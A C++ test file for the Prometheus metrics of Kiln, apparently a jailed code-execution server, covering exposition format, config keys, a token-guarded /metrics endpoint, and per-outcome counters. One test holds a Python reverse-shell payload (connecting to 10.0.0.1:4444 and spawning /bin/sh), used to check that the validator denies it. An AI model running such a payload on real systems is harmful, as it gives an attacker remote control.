// Kiln's metrics (docs/metrics.md): the exposition text, the configuration
// keys, GET /metrics with its token, and the counters after real calls
// through a Toolbox (real jails, root only), checked to the exact value and
// by Prometheus's own `promtool check metrics`.
#include <doctest/doctest.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <map>
#include <set>
#include <sstream>

#include "common/config.hpp"
#include "common/kiln_metrics.hpp"
#include "common/metrics.hpp"
#include "server/mcp_session.hpp"
#include "server/metrics_endpoint.hpp"
#include "tools/debug_tools.hpp"
#include "tools/toolbox.hpp"

using namespace kiln;
using nlohmann::json;
namespace fs = std::filesystem;

namespace {

bool must_work() {
    const char* v = std::getenv("KILN_MUST_WORK");
    return v && std::string(v) == "1";
}

bool promtool_found() { return std::system("command -v promtool >/dev/null 2>&1") == 0; }

fs::path scratch(const char* name) {
    fs::path p = fs::temp_directory_path() / (std::string(name) + "-" + std::to_string(::getpid()));
    fs::remove_all(p);
    fs::create_directories(p);
    return p;
}

void write_file(const fs::path& path, const std::string& text, mode_t mode) {
    std::ofstream(path) << text;
    ::chmod(path.c_str(), mode);
}

std::size_t line_count(const fs::path& path) {
    std::ifstream in(path);
    std::size_t n = 0;
    for (std::string line; std::getline(in, line);) ++n;
    return n;
}

// The value of one sample line (`series` exactly as rendered) in the text.
std::string sample(const std::string& text, const std::string& series) {
    std::istringstream in(text);
    for (std::string line; std::getline(in, line);)
        if (line.rfind(series + " ", 0) == 0) return line.substr(series.size() + 1);
    FAIL("no sample " << series << " in the metrics text");
    return {};
}

// Runs promtool check metrics on the text: its exit status and what it said.
std::pair<int, std::string> promtool_check(const std::string& text) {
    fs::path dir = scratch("kiln-promtool");
    write_file(dir / "metrics.txt", text, 0600);
    std::string cmd = "promtool check metrics < " + (dir / "metrics.txt").string() + " 2>&1";
    FILE* p = ::popen(cmd.c_str(), "r");
    REQUIRE(p);
    std::string out;
    char buf[512];
    while (std::size_t n = std::fread(buf, 1, sizeof buf, p)) out.append(buf, n);
    int status = ::pclose(p);
    fs::remove_all(dir);
    return {WIFEXITED(status) ? WEXITSTATUS(status) : -1, out};
}

struct Call {
    std::string tool;
    json arguments;
};

}  // namespace

TEST_CASE("metrics: a counter, a gauge and a histogram as Prometheus text 0.0.4, label values and help escaped") {
    metrics::Registry r;
    r.add<metrics::Counter>("t_calls_total", "Calls\nmade \\ here", {"kind"}).declare({"a\"b\\c\nd"}).inc(3);
    r.add<metrics::Gauge>("t_open", "Open things").declare({}).set(-2);
    auto& h = r.add<metrics::Histogram>("t_seconds", "Time", {}, {0.25, 1}).declare({});
    h.observe(0.25);  // a bound is inclusive: le="0.25"
    h.observe(0.5);
    h.observe(7);
    CHECK(r.render() ==
          "# HELP t_calls_total Calls\\nmade \\\\ here\n"
          "# TYPE t_calls_total counter\n"
          "t_calls_total{kind=\"a\\\"b\\\\c\\nd\"} 3\n"
          "# HELP t_open Open things\n"
          "# TYPE t_open gauge\n"
          "t_open -2\n"
          "# HELP t_seconds Time\n"
          "# TYPE t_seconds histogram\n"
          "t_seconds_bucket{le=\"0.25\"} 1\n"
          "t_seconds_bucket{le=\"1\"} 2\n"
          "t_seconds_bucket{le=\"+Inf\"} 3\n"
          "t_seconds_sum 7.75\n"
          "t_seconds_count 3\n");
}

TEST_CASE("metrics: a family refuses a bad metric name, a bad label name and a wrong number of label values") {
    metrics::Registry r;
    CHECK_THROWS_AS(r.add<metrics::Counter>("2bad", "x"), std::logic_error);
    CHECK_THROWS_AS(r.add<metrics::Counter>("t_total", "x", {"has-dash"}), std::logic_error);
    CHECK_THROWS_AS(r.add<metrics::Counter>("t_total", "x", {"__reserved"}), std::logic_error);
    CHECK_THROWS_AS(r.add<metrics::Histogram>("t_seconds", "x", {"le"}, {1}), std::logic_error);
    CHECK_THROWS_AS(r.add<metrics::Histogram>("t_seconds", "x", {}, {1, 1}), std::logic_error);
    auto& f = r.add<metrics::Counter>("t_total", "x", {"a", "b"});
    CHECK_THROWS_AS(f.declare({"only one"}), std::logic_error);
    CHECK(&f.declare({"x", "y"}) == &f.declare({"x", "y"}));
}

TEST_CASE("config: server.metrics keys nested or dotted in YAML, from the environment, printed nested") {
    fs::path dir = scratch("kiln-metrics-config");
    write_file(dir / "nested.yaml", "server:\n  metrics:\n    enabled: false\n    token_file: /etc/kiln/metrics.token\n", 0600);
    Config c;
    REQUIRE(config_load_yaml(c, dir / "nested.yaml").ok());
    CHECK_FALSE(c.server.metrics_enabled);
    CHECK(c.server.metrics_token_file == "/etc/kiln/metrics.token");
    CHECK(c.origin["server.metrics.enabled"] == "file:" + (dir / "nested.yaml").string() + ":3");

    write_file(dir / "dotted.yaml", "server:\n  metrics.enabled: false\n", 0600);
    Config d;
    REQUIRE(config_load_yaml(d, dir / "dotted.yaml").ok());
    CHECK_FALSE(d.server.metrics_enabled);

    write_file(dir / "typo.yaml", "server:\n  metrics:\n    enabeld: true\n", 0600);
    Status st = config_load_yaml(d, dir / "typo.yaml");
    REQUIRE_FALSE(st.ok());
    CHECK(st.error().what().find("typo.yaml:3") != std::string::npos);
    CHECK(st.error().what().find("unknown key 'server.metrics.enabeld' (known keys in server.metrics: enabled, token_file)") !=
          std::string::npos);

    std::string var = "KILN_SERVER_METRICS_ENABLED=false";
    char* env[] = {var.data(), nullptr};
    Config e;
    REQUIRE(config_load_env(e, env).ok());
    CHECK_FALSE(e.server.metrics_enabled);
    CHECK(e.origin["server.metrics.enabled"] == "env:KILN_SERVER_METRICS_ENABLED");

    auto names = config_env_names();
    CHECK(std::set<std::string>(names.begin(), names.end()).size() == names.size());

    Config defaults;
    std::string yaml = config_to_yaml(defaults);
    CHECK(yaml.find("\n  metrics:\n    enabled: true  # serve Prometheus metrics") != std::string::npos);
    CHECK(yaml.find("\n    token_file: \"\"  # ") != std::string::npos);
    fs::remove_all(dir);
}

TEST_CASE("GET /metrics: 404 when off, 401 without its token (counted by reason), 200 with it") {
    fs::path dir = scratch("kiln-metrics-token");
    ServerConfig cfg;
    auto open = server::MetricsEndpoint::create(cfg);
    REQUIRE(open.ok());
    auto answer = open->answer("");
    CHECK(answer.status == 200);
    CHECK(answer.content_type == "text/plain; version=0.0.4; charset=utf-8");
    CHECK(answer.body.find("# TYPE kiln_tool_calls_total counter\n") != std::string::npos);

    cfg.metrics_enabled = false;
    CHECK(server::MetricsEndpoint::create(cfg)->answer("").status == 404);
    cfg.metrics_enabled = true;

    const std::string token = "0123456789abcdef0123456789abcdef";
    cfg.metrics_token_file = (dir / "token").string();
    write_file(dir / "token", token + "\n", 0644);
    auto loose = server::MetricsEndpoint::create(cfg);
    REQUIRE_FALSE(loose.ok());
    CHECK(loose.error().what().find("server.metrics.token_file") != std::string::npos);
    CHECK(loose.error().what().find("chmod 600") != std::string::npos);
    write_file(dir / "token", "short\n", 0600);
    auto weak = server::MetricsEndpoint::create(cfg);
    REQUIRE_FALSE(weak.ok());
    CHECK(weak.error().what().find("at least 16 characters") != std::string::npos);

    write_file(dir / "token", token + "\n", 0600);
    auto guarded = server::MetricsEndpoint::create(cfg);
    REQUIRE_MESSAGE(guarded.ok(), (guarded.ok() ? "" : guarded.error().what()));
    auto& missing = metrics::auth_failures(metrics::AuthFailure::Missing);
    auto& unknown = metrics::auth_failures(metrics::AuthFailure::UnknownToken);
    auto& malformed = metrics::auth_failures(metrics::AuthFailure::Malformed);
    const auto missing0 = missing.value(), unknown0 = unknown.value(), malformed0 = malformed.value();

    auto none = guarded->answer("");
    CHECK(none.status == 401);
    CHECK(none.www_authenticate == "Bearer realm=\"kiln-metrics\"");
    CHECK(none.body.find("# TYPE") == std::string::npos);
    CHECK(guarded->answer("Bearer " + token.substr(0, 31) + "0").status == 401);
    CHECK(guarded->answer("Bearer " + token + "x").status == 401);
    CHECK(guarded->answer("Basic " + token).status == 401);
    CHECK(guarded->answer("Bearer " + token).status == 200);
    CHECK(guarded->answer("bearer " + token).status == 200);
    CHECK(missing.value() == missing0 + 1);
    CHECK(unknown.value() == unknown0 + 2);
    CHECK(malformed.value() == malformed0 + 1);
    fs::remove_all(dir);
}

TEST_CASE("metrics: the transport's HTTP statuses, auth failures and SSE streams") {
    const auto ok0 = metrics::http_requests(200), busy0 = metrics::http_requests(429), other0 = metrics::http_requests(42);
    metrics::record_http_request(200);
    metrics::record_http_request(200);
    metrics::record_http_request(429);
    metrics::record_http_request(42);
    metrics::record_http_request(600);
    CHECK(metrics::http_requests(200) == ok0 + 2);
    CHECK(metrics::http_requests(429) == busy0 + 1);
    CHECK(metrics::http_requests(42) == other0 + 2);  // both out of range: "other"
    std::string text = metrics::render();
    CHECK(sample(text, "kiln_http_requests_total{code=\"429\"}") == std::to_string(busy0 + 1));
    CHECK(sample(text, "kiln_http_requests_total{code=\"other\"}") == std::to_string(other0 + 2));

    const auto streams0 = metrics::sse_streams().value();
    {
        metrics::GaugeHold one(metrics::sse_streams()), two(metrics::sse_streams());
        CHECK(metrics::sse_streams().value() == streams0 + 2);
        CHECK(sample(metrics::render(), "kiln_sse_streams_active") == std::to_string(streams0 + 2));
    }
    CHECK(metrics::sse_streams().value() == streams0);
}

TEST_CASE("metrics: an MCP session counts as open while it lives, and its tool calls count by outcome") {
    tools::Registry registry;
    tools::register_debug_tools(registry);
    const auto open0 = metrics::sessions_active().value();
    auto& echo = metrics::tool_calls("debug_echo");
    auto& fail = metrics::tool_calls("debug_fail");
    const auto ok0 = echo.value(metrics::ToolOutcome::Ok), bad0 = echo.value(metrics::ToolOutcome::InvalidArguments);
    const auto threw0 = fail.value(metrics::ToolOutcome::Exception);
    {
        server::Session session({}, registry, [](const json&, const std::optional<json>&) {}, "metrics-test");
        CHECK(metrics::sessions_active().value() == open0 + 1);
        tools::CallContext ctx;
        CHECK_FALSE(registry.call(*registry.find("debug_echo"), {{"text", "hi"}}, ctx).is_error);
        CHECK(registry.call(*registry.find("debug_echo"), {{"text", 5}}, ctx).is_error);
        CHECK(registry.call(*registry.find("debug_fail"), json::object(), ctx).is_error);
    }
    CHECK(metrics::sessions_active().value() == open0);
    CHECK(echo.value(metrics::ToolOutcome::Ok) == ok0 + 1);
    CHECK(echo.value(metrics::ToolOutcome::InvalidArguments) == bad0 + 1);
    CHECK(fail.value(metrics::ToolOutcome::Exception) == threw0 + 1);
    CHECK(sample(metrics::render(), "kiln_tool_calls_total{tool=\"debug_echo\",outcome=\"ok\"}") == std::to_string(ok0 + 1));
}

namespace {

// Every counter the run pipeline moves, read at one moment.
struct RunCounters {
    std::map<metrics::ExecutionOutcome, std::uint64_t> executions;
    std::map<metrics::DecisionLevel, std::uint64_t> decisions;
    std::map<metrics::ToolOutcome, std::uint64_t> run_code;
    std::map<std::string, std::uint64_t> findings;
    std::uint64_t audit_records = 0, setups = 0, runs = 0;
    std::int64_t active = 0, waiting = 0;

    static RunCounters now() {
        RunCounters c;
        for (const auto& n : metrics::kExecutionOutcomeNames) c.executions[n.value] = metrics::executions(n.value).value();
        for (const auto& n : metrics::kDecisionLevelNames) c.decisions[n.value] = metrics::decisions(n.value).value();
        for (const auto& n : metrics::kToolOutcomeNames) c.run_code[n.value] = metrics::tool_calls("run_code").value(n.value);
        for (const char* t : {"T001", "T002", "T003", "T004", "T005"}) c.findings[t] = metrics::findings(t);
        c.audit_records = metrics::audit_records().value();
        c.setups = metrics::jail_setup_seconds().count();
        c.runs = metrics::execution_seconds().count();
        c.active = metrics::runs_active().value();
        c.waiting = metrics::runs_waiting().value();
        return c;
    }
};

}  // namespace

TEST_CASE("metrics: real run_code calls through a Toolbox move each counter by exactly what happened") {
    if (::geteuid() != 0) {
        if (must_work()) FAIL("KILN_MUST_WORK=1 but the Toolbox's jails and workspaces need root here");
        MESSAGE("not applicable: a Toolbox with tmpfs workspaces needs a root server here");
        return;
    }
    fs::path dir = scratch("kiln-metrics-toolbox");
    Config config;
    config.server.state_dir = dir.string();
    config.audit.path = (dir / "audit.jsonl").string();
    config.audit.fsync = "never";
    auto box = tools::Toolbox::create(config);
    REQUIRE_MESSAGE(box.ok(), (box.ok() ? "" : box.error().what()));
    const tools::Registry& registry = (*box)->registry();
    tools::Tool& run_code = *registry.find("run_code");

    const RunCounters before = RunCounters::now();
    const std::size_t lines_before = line_count(config.audit.path);
    const std::string reverse_shell =
        "import socket,subprocess,os\ns=socket.socket();s.connect((\"10.0.0.1\",4444))\n"
        "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1)\nsubprocess.call([\"/bin/sh\",\"-i\"])\n";
    std::map<std::string, std::uint64_t> threats_found;
    auto call = [&](const json& arguments, const tools::CallContext& ctx) {
        tools::ToolResult r = registry.call(run_code, arguments, ctx);
        if (r.structured.is_object())
            for (const auto& f : r.structured.value("findings", json::array())) ++threats_found[f.value("threat", "")];
        return r;
    };
    tools::CallContext plain;
    CHECK(call({{"language", "python"}, {"code", "print(1)"}}, plain).text.rfind("exit 0", 0) == 0);
    CHECK(call({{"language", "python"}, {"code", "import sys\nsys.exit(3)"}}, plain).text.rfind("exit 3", 0) == 0);
    CHECK(call({{"language", "python"}, {"code", "while True:\n    pass\n"}, {"timeout_seconds", 1}}, plain)
              .text.rfind("timed out", 0) == 0);
    CHECK(call({{"language", "python"}, {"code", reverse_shell}}, plain).text.rfind("denied", 0) == 0);
    CHECK(call({{"language", "python"}, {"code", "print(1)"}, {"timeout_seconds", 1'000'000}}, plain).is_error);
    CHECK(call({{"language", "python"}}, plain).is_error);  // no code: the inputSchema refuses it
    std::stop_source cancelled;
    cancelled.request_stop();
    tools::CallContext stopped;
    stopped.stop = cancelled.get_token();
    CHECK(call({{"language", "python"}, {"code", "print(1)"}}, stopped).text.rfind("cancelled", 0) == 0);

    const RunCounters after = RunCounters::now();
    using E = metrics::ExecutionOutcome;
    using D = metrics::DecisionLevel;
    using T = metrics::ToolOutcome;
    std::map<E, std::uint64_t> executions = {{E::Ok, 1}, {E::Failed, 1}, {E::Timeout, 1}, {E::Oom, 0},
                                             {E::Cancelled, 1}, {E::Denied, 1}, {E::Refused, 1}, {E::Error, 0}};
    for (auto [outcome, n] : executions)
        CHECK_MESSAGE(after.executions.at(outcome) - before.executions.at(outcome) == n,
                      "kiln_executions_total{outcome=\"" << metrics::label_name<E>(outcome, metrics::kExecutionOutcomeNames) << "\"}");
    // The validator allowed the four that ran (the cancelled one too) and
    // denied the reverse shell; the one over the policy's timeout never
    // reached it.
    std::map<D, std::uint64_t> decisions = {{D::Allow, 4}, {D::Approved, 0}, {D::Warned, 0},
                                            {D::Deny, 1}, {D::Denied, 0}, {D::Refused, 1}};
    for (auto [level, n] : decisions)
        CHECK_MESSAGE(after.decisions.at(level) - before.decisions.at(level) == n,
                      "kiln_decisions_total{decision=\"" << metrics::label_name<D>(level, metrics::kDecisionLevelNames) << "\"}");
    CHECK(after.run_code.at(T::Ok) - before.run_code.at(T::Ok) == 1);
    CHECK(after.run_code.at(T::Error) - before.run_code.at(T::Error) == 5);
    CHECK(after.run_code.at(T::InvalidArguments) - before.run_code.at(T::InvalidArguments) == 1);
    CHECK(after.run_code.at(T::Exception) == before.run_code.at(T::Exception));
    CHECK(threats_found["T005"] > 0);
    for (const auto& [threat, n] : after.findings)
        CHECK_MESSAGE(n - before.findings.at(threat) == threats_found[threat], "kiln_findings_total{threat=\"" << threat << "\"}");
    // Records this process wrote: the lines the log gained.
    CHECK(after.audit_records - before.audit_records == line_count(config.audit.path) - lines_before);
    CHECK(after.audit_records - before.audit_records >= 7 + 2 + 2);
    CHECK(after.setups - before.setups == 4);
    CHECK(after.runs - before.runs == 4);
    CHECK(after.active == before.active);
    CHECK(after.waiting == before.waiting);

    box->reset();
    fs::remove_all(dir);
}

TEST_CASE("metrics: promtool check metrics accepts Kiln's text after real activity" *
          doctest::skip(!promtool_found() && !must_work())) {
    REQUIRE_MESSAGE(promtool_found(), "KILN_MUST_WORK=1 but promtool is missing: apt-get install prometheus");
    tools::Registry registry;
    tools::register_debug_tools(registry);
    tools::CallContext ctx;
    (void)registry.call(*registry.find("debug_echo"), {{"text", "hi"}}, ctx);
    metrics::record_http_request(200);
    metrics::record_http_request(401);
    metrics::record_auth_failure(metrics::AuthFailure::Expired);
    metrics::jail_setup_seconds().observe(0.003);
    std::string text = metrics::render();
    // Every family Kiln exports is in it, with its series declared.
    for (const char* family : {"kiln_tool_calls_total", "kiln_decisions_total", "kiln_findings_total", "kiln_executions_total",
                               "kiln_jail_setup_seconds", "kiln_execution_duration_seconds", "kiln_sessions_active",
                               "kiln_runs_active", "kiln_runs_waiting", "kiln_sse_streams_active", "kiln_audit_records_total",
                               "kiln_audit_write_failures_total", "kiln_http_requests_total", "kiln_auth_failures_total"})
        CHECK_MESSAGE(text.find(std::string("# TYPE ") + family + " ") != std::string::npos, family);
    auto [status, said] = promtool_check(text);
    INFO("promtool said: " << said);
    CHECK(status == 0);
    CHECK(said.empty());

    // And the check can fail: a counter without _total is a lint problem.
    auto [bad_status, bad_said] = promtool_check(text + "# HELP kiln_oops A counter named wrong\n# TYPE kiln_oops counter\nkiln_oops 1\n");
    CHECK(bad_status != 0);
    CHECK(bad_said.find("kiln_oops") != std::string::npos);
}
